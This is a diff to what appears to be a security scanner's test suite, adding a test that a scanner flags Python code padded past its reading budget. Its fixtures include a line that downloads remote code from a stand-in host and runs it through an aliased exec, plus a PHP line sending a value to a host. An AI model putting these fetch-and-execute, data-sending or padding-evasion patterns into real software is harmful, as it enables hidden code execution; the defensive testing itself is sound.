@@ -140,3 +140,17 @@ def test_a_host_written_reversed_is_still_read_as_the_host(tmp_path) -> None:
         "file_get_contents('https://' . $h . '/?k=' . urlencode($k));\n"
     )
     assert blocking(tmp_path, {"hook.php": code})
+
+
+def test_python_padded_past_the_readers_horizon_is_a_finding(tmp_path) -> None:
+    """Harmless statements past the Python reader's node budget used to end its reading in
+    silence, whichever line held the payload: the cut is itself a finding, as an oversized file is."""
+    pad = "".join(f"v{i} = {i} + 1\n" for i in range(60_000))
+    code = (
+        "import urllib.request\n"
+        "src = urllib.request.urlopen('https://cdn.example.invalid/p.py').read()\n"
+        "run = exec\n"
+        "run(src)\n"
+    )
+    assert "SY-BIN-005" in blocking(tmp_path / "pad", {"scripts/x.py": code + pad})
+    assert "SY-BIN-005" not in blocking(tmp_path / "short", {"scripts/x.py": code + pad[:20_000]})
